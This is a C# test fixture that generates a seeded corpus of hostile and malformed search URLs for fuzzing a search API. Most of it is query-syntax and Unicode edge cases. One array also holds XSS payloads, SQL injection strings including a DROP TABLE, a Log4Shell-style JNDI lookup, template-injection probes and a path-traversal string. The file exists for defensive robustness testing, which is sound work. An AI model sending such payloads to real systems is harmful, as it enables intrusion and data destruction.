using System.Globalization;
using System.Text;

namespace SearchService.Api.Tests.Search;

/// <summary>A reproducible corpus of hostile and random search URLs: known attack shapes, raw query strings
/// with broken %-escapes, mutations of both, and random text from a seeded generator.</summary>
internal static class NastyQueries
{
    public static readonly string[] Adversarial =
    [
        "*", "**", "?", "*vård", "**vård**", "?ård", "v?rd", "v*rd", "*a*b*c*", "va*", "v*", "a* b* c* d* e* f* g* h*",
        "vård~", "vård~2", "vård~0.0001", "\"vård plats\"~100", "/.*/", "/[a-zåäö]+/", "/(a+)+$/", "vård^1000", "vård^-1",
        "title:vård", "text:*", "_id:*", "[* TO *]", "{a TO z}", "[vård TO vårdz]", "field:[1 TO 9999999999]",
        "\"", "\"\"", "\"\"\"", "\"vård", "vård\"", "\\", "\\\\", "\\\"", "'", "''", "`", "´",
        "(", ")", "()", ")(", "((((((((((vård))))))))))", "(((((((((vård", "vård)))))))))", new string('(', 400) + "vård",
        "AND", "OR", "NOT", "OCH", "ELLER", "INTE", "AND OR NOT", "OR OR OR", "NOT NOT vård", "- - -", "-", "--vård",
        "-(-(-vård))", "-vård", "vård -vård", "+vård", "+-+-vård", "&&", "||", "!", "!!vård", "vård && || !",
        string.Join(" OR ", Enumerable.Repeat("vård", 16)), string.Join(" ", Enumerable.Range(0, 40).Select(i => "ord" + i)),
        string.Join(" ", "abcdefghijklmnopqrstuvwxyzåäö".Select(c => "v" + c + "*")), string.Concat(Enumerable.Repeat("(a OR ", 8)) + "b",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "\"><svg onload=alert(1)>",
        "' OR 1=1 --", "'; DROP TABLE paragraphs; --", "${jndi:ldap://example.invalid/a}", "{{7*7}}", "<%= 7*7 %>", "../../etc/passwd",
        "%00", "%", "%%", "%zz", "\0", "\u0001", "\t", "\r\n", "\u007f", "\u0085", "\u2028", "\u202e", "\u200b", "\u200d", "\ufeff",
        "\ufffd", "\uffff", "\ufffe", "\ud800", "\udc00", "\udbff\udfff", "\ud83d\ude00", "😀😀😀", "vård😀", "👩‍⚕️ vård",
        "a\u0301\u0301\u0301\u0301\u0301", string.Concat(Enumerable.Repeat("\u0301", 300)), "ǅ", "ﬃ", "İstanbul", "ß", "ΣΑΣ",
        "مرحبا", "שלום", "你好", "日本語", "١٢٣", "Ⅻ", "½", "∞", "NaN", "-0", "1e309", "0x10", "null", "undefined", "true",
        new string('a', 500), new string('a', 501), new string('å', 500), new string(' ', 500), string.Concat(Enumerable.Repeat("vård ", 100)),
        "vårdplatser", "Vårdplatser i Skåne", "\"nära vård\"", "vård OCH omsorg", "vård ELLER skola", "vård INTE tandvård", "(vård OR omsorg) -tand",
    ];

    public static readonly string[] RawQueryStrings =
    [
        "", "?", "q", "q=", "=", "==", "&", "&&&", "q&q", "q==vård", "q=%", "q=%%", "q=%E", "q=%C3", "q=v%C3rd", "q=%FF%FE",
        "q=%ED%A0%80", "q=%ED%B0%80", "q=%C0%AF", "q=%E0%80%AF", "q=%F4%90%80%80", "q=%F8%88%80%80%80", "q=%00", "q=%0A",
        "q=%EF%BF%BD", "q=%EF%BF%BF", "%71=v%C3%A5rd", "q=v%C3%A5rd&q=skola", "q=v%C3%A5rd&page=", "q=v%C3%A5rd&page=-1",
        "q=v%C3%A5rd&page=0", "q=v%C3%A5rd&page=99999999999999999999", "q=v%C3%A5rd&page=2147483647&pageSize=100",
        "q=v%C3%A5rd&pageSize=0x10", "q=v%C3%A5rd&pageSize=1e2", "q=v%C3%A5rd&pageSize=%20", "q=v%C3%A5rd&region=%00",
        "q=v%C3%A5rd&region=" + new string('x', 2000), "q=v%C3%A5rd&region=Sk%C3%A5ne", "q=v%C3%A5rd&region=sk%C3%85NE",
        "q=v%C3%A5rd&region=%FF", "q=v%C3%A5rd&unknown=1", "q=v%C3%A5rd&page=1&page=2", "q=+++", "q=%2B%2B", "q=a+b+c",
        "q=v%c3%a5rd", "q=%25", "q=%2525", "q=v%C3%A5rd%", "q=" + string.Concat(Enumerable.Repeat("%28", 200)),
    ];

    private static readonly string[] Vocabulary =
    [
        "vård", "vårdplatser", "skola", "region", "Skåne", "budget", "tolk", "omsorg", "AND", "OR", "NOT", "OCH", "ELLER", "INTE",
        "(", ")", "\"", "-", "*", "?", "~", "^", ":", "\\", "/", "[", "]", "{", "}", "&", "|", "!", "+", "%", "'", "<", ">", ";",
    ];

    private static readonly string[] Regions = ["Skåne", "skåne", "Atlantis", "", " ", "Västra Götaland", "VÄRMLAND", "%", "\u0000"];

    /// <summary><paramref name="count"/> relative URLs: every fixed case first, then mutations and random ones.</summary>
    public static IReadOnlyList<string> Urls(int count, int seed)
    {
        var random = new Random(seed);
        var urls = new List<string>(count);
        urls.AddRange(Adversarial.Select(q => "/api/search?q=" + Encode(q)));
        urls.AddRange(RawQueryStrings.Select(raw => "/api/search?" + raw));
        while (urls.Count < count)
        {
            var query = random.Next(4) switch
            {
                0 => Mutate(Adversarial[random.Next(Adversarial.Length)], random),
                1 => RandomText(random),
                _ => RandomWords(random),
            };
            var url = new StringBuilder("/api/search?q=").Append(Encode(query));
            if (random.Next(3) == 0)
            {
                url.Append("&region=").Append(Encode(Regions[random.Next(Regions.Length)]));
            }
            if (random.Next(3) == 0)
            {
                url.Append("&page=").Append(random.Next(-2, 1200).ToString(CultureInfo.InvariantCulture));
                url.Append("&pageSize=").Append(random.Next(-2, 130).ToString(CultureInfo.InvariantCulture));
            }
            urls.Add(url.ToString());
        }
        return urls;
    }

    /// <summary>Percent-encodes the UTF-8 bytes of <paramref name="text"/> (a lone surrogate becomes U+FFFD's bytes).</summary>
    public static string Encode(string text) => string.Concat(Encoding.UTF8.GetBytes(text).Select(b => "%" + b.ToString("X2", CultureInfo.InvariantCulture)));

    private static string Mutate(string text, Random random)
    {
        var chars = new StringBuilder(text);
        for (var i = random.Next(1, 6); i > 0; i--)
        {
            var at = random.Next(chars.Length + 1);
            chars.Insert(at, Vocabulary[random.Next(Vocabulary.Length)]);
        }
        return chars.ToString();
    }

    // Any UTF-16 code unit, surrogate halves and control characters included.
    private static string RandomText(Random random)
    {
        var length = random.Next(0, random.Next(2) == 0 ? 40 : 520);
        var chars = new char[length];
        for (var i = 0; i < length; i++)
        {
            chars[i] = random.Next(4) == 0 ? (char)random.Next(0, 0x10000) : (char)random.Next(0x20, 0x250);
        }
        return new string(chars);
    }

    private static string RandomWords(Random random) =>
        string.Join(random.Next(5) == 0 ? "" : " ", Enumerable.Range(0, random.Next(1, 40)).Select(_ => Vocabulary[random.Next(Vocabulary.Length)]));
}
